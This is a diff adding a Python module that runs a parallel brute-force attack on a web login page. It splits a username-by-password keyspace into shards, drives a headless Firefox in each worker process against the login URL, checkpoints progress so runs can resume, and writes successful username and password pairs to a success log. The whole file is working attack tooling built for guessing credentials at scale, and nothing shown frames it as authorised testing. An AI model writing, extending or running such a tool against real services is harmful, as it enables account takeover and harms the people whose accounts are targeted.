@@ -0,0 +1,233 @@
+import itertools
+import multiprocessing
+import os
+import queue
+import shutil
+from collections import namedtuple
+from multiprocessing.util import Finalize
+
+from Common.DriverPool import browser_alive, launch_firefox
+
+from BruteForceEngine import ERROR, FAILED, SUCCESS, BrowserCrashed, make_engine
+from Checkpoint import Checkpoint, CheckpointMismatch
+
+# A disjoint slice of the username x password keyspace, as the half-open
+# range [start, stop) of (user_index, password_index) cursors.
+Shard = namedtuple("Shard", "index start stop size")
+ShardResult = namedtuple("ShardResult", "index hits complete")
+
+SHARDS_PER_WORKER = 8  # more shards than workers, so a slow shard never leaves the others idle
+PROGRESS_EVERY = 200   # attempts between progress messages from a worker
+
+
+def plan_shards(user_count, password_count, shard_count):
+    """Splits the keyspace into `shard_count` contiguous shards of (almost) equal size; none if it is empty."""
+    total = user_count * password_count
+    if total == 0:
+        return []
+    shard_count = max(1, min(shard_count, total))
+    shards = []
+    for index in range(shard_count):
+        first = total * index // shard_count
+        last = total * (index + 1) // shard_count
+        shards.append(Shard(index, divmod(first, password_count), divmod(last, password_count), last - first))
+    return shards
+
+
+def shard_checkpoint_path(checkpoint_dir, shard):
+    return os.path.join(checkpoint_dir, f"shard-{shard.index:04d}.checkpoint.json")
+
+
+def shard_fingerprint(fingerprint, shard):
+    return f"{fingerprint}|{shard.start[0]}.{shard.start[1]}-{shard.stop[0]}.{shard.stop[1]}"
+
+
+# Per-worker-process state, set up once by _init_worker and reused by every
+# shard the worker picks up, so Firefox starts once per worker, not per shard.
+_worker = {}
+
+
+def _init_worker(credentials, options, progress):
+    _worker.update(credentials=credentials, options=options, progress=progress, driver=None, engine=None)
+    Finalize(None, _quit_browser, exitpriority=10)
+
+
+def _quit_browser():
+    driver, _worker["driver"], _worker["engine"] = _worker["driver"], None, None
+    if driver is not None:
+        try:
+            driver.quit()
+        except Exception:
+            pass
+
+
+def _engine():
+    if _worker["engine"] is None or not browser_alive(_worker["driver"]):
+        _quit_browser()
+        options = _worker["options"]
+        driver = launch_firefox(headless=True)
+        _worker["driver"] = driver
+        _worker["engine"] = make_engine(options["engine"], driver, options["login_url"], options["batch_size"])
+    return _worker["engine"]
+
+
+def _shard_attempts(engine, checkpoint, shard):
+    credentials = _worker["credentials"]
+    todo = itertools.chain(checkpoint.pending_retries(), credentials.credentials(checkpoint.cursor, shard.stop))
+    for attempt in engine.run(todo):
+        checkpoint.record(attempt)
+        if attempt.status == ERROR and not browser_alive(engine.driver):
+            raise BrowserCrashed()
+        yield attempt
+
+
+def run_shard(shard):
+    """Works through one shard in a pool worker, checkpointing it separately from every other shard."""
+    options = _worker["options"]
+    progress = _worker["progress"]
+    path = shard_checkpoint_path(options["checkpoint_dir"], shard)
+    fingerprint = shard_fingerprint(_worker["credentials"].fingerprint(), shard)
+    if os.path.exists(path):
+        checkpoint = Checkpoint.resume(path, fingerprint, every_attempts=options["checkpoint_every"])
+    else:
+        checkpoint = Checkpoint(path, fingerprint, every_attempts=options["checkpoint_every"])
+        checkpoint.cursor = shard.start
+    attempts_before, errors_before = checkpoint.attempts, checkpoint.errors
+
+    def report():
+        progress.put(("progress", shard.index, checkpoint.attempts,
+                      checkpoint.attempts - attempts_before, checkpoint.errors - errors_before))
+
+    restarts = 0
+    reported = checkpoint.attempts
+    while not checkpoint.complete:
+        try:
+            for attempt in _shard_attempts(_engine(), checkpoint, shard):
+                if attempt.status == SUCCESS:
+                    progress.put(("hit", shard.index, attempt.username, attempt.password))
+                elif attempt.status == FAILED and options["debug"]:
+                    print(f"[FAILED] Username: {attempt.username} | Password: {attempt.password}")
+                elif attempt.error:
+                    progress.put(("error", shard.index, attempt.error))
+                if checkpoint.attempts - reported >= PROGRESS_EVERY:
+                    reported = checkpoint.attempts
+                    report()
+            checkpoint.save(complete=not checkpoint.retry)
+            if checkpoint.retry:
+                break
+        except BrowserCrashed:
+            checkpoint.save()
+            restarts += 1
+            if restarts > options["max_restarts"]:
+                break
+
+    report()
+    return ShardResult(shard.index, checkpoint.hits, checkpoint.complete)
+
+
+def read_hits(success_log):
+    """(username, password) pairs already recorded in the success log."""
+    hits = set()
+    if os.path.exists(success_log):
+        with open(success_log) as f:
+            for line in f:
+                if line.startswith("[SUCCESS] Username: "):
+                    username, _, password = line[len("[SUCCESS] Username: "):].rstrip("\n").partition(" | Password: ")
+                    hits.add((username, password))
+    return hits
+
+
+def shard_detail(shards, done, finished):
+    running = [
+        f"#{shard.index} {100 * done.get(shard.index, 0) // max(shard.size, 1)}%"
+        for shard in shards if shard.index not in finished and done.get(shard.index)
+    ]
+    detail = f"shards {len(finished)}/{len(shards)}"
+    return f"{detail}, running {' '.join(running)}" if running else detail
+
+
+def run_parallel(credentials, options, workers, shard_count, resume, success_file, known_hits, reporter):
+    """
+    Splits the keyspace into `shard_count` shards and runs them on a pool of
+    `workers` processes, each driving its own headless Firefox. Shards are
+    handed out one at a time as workers free up. Each shard has its own
+    checkpoint under options["checkpoint_dir"], so --resume only redoes the
+    unfinished parts of unfinished shards. Hits are written to `success_file`
+    once, however many shards (or runs) found them. Progress, including how
+    far each running shard got, goes to `reporter`.
+
+    Returns the number of shards that stopped before finishing.
+    """
+    user_count, password_count = credentials.size()
+    shards = plan_shards(user_count, password_count, shard_count)
+    if not shards:
+        reporter.log("Nothing to try: the keyspace is empty.")
+        return 0
+    checkpoint_dir = options["checkpoint_dir"]
+    if not resume and os.path.isdir(checkpoint_dir):
+        shutil.rmtree(checkpoint_dir)
+    os.makedirs(checkpoint_dir, exist_ok=True)
+    reporter.total = user_count * password_count
+    reporter.log(f"{user_count} usernames x {password_count} passwords split into {len(shards)} shards "
+                 f"over {workers} workers")
+
+    progress = multiprocessing.Queue()
+    done = {}
+    run_counts = {}
+    finished = set()
+    hits = set()
+
+    def add_hit(hit, shard_index):
+        if hit in hits:
+            return
+        hits.add(hit)
+        success_msg = f"[SUCCESS] Username: {hit[0]} | Password: {hit[1]}"
+        reporter.log(f"{success_msg} (shard #{shard_index})")
+        if hit not in known_hits:
+            known_hits.add(hit)
+            success_file.write(success_msg + "\n")
+            success_file.flush()
+
+    def drain():
+        while True:
+            try:
+                message = progress.get_nowait()
+            except queue.Empty:
+                break
+            if message[0] == "progress":
+                done[message[1]] = message[2]
+                run_counts[message[1]] = message[3:]
+            elif message[0] == "error":
+                reporter.log(f"[ERROR] {message[2]} (shard #{message[1]})")
+            else:
+                add_hit((message[2], message[3]), message[1])
+        attempts = sum(counts[0] for counts in run_counts.values())
+        errors = sum(counts[1] for counts in run_counts.values())
+        reporter.set_counts(attempts, errors, len(hits), done=sum(done.values()))
+        reporter.detail = shard_detail(shards, done, finished)
+
+    incomplete = 0
+    with multiprocessing.Pool(workers, _init_worker, (credentials, options, progress)) as pool:
+        results = pool.imap_unordered(run_shard, shards, chunksize=1)
+        while len(finished) < len(shards):
+            try:
+                result = results.next(timeout=reporter.interval)
+            except multiprocessing.TimeoutError:
+                drain()
+                reporter.report()
+                continue
+            except CheckpointMismatch as e:
+                pool.terminate()
+                raise CheckpointMismatch(f"{e}; the shard layout changed, run again without --resume") from None
+            finished.add(result.index)
+            for hit in result.hits:
+                add_hit(tuple(hit), result.index)
+            if not result.complete:
+                incomplete += 1
+                reporter.log(f"[ERROR] Shard #{result.index} stopped early; continue it later with --resume.")
+            drain()
+            reporter.tick()
+        pool.close()
+        pool.join()
+    drain()
+    return incomplete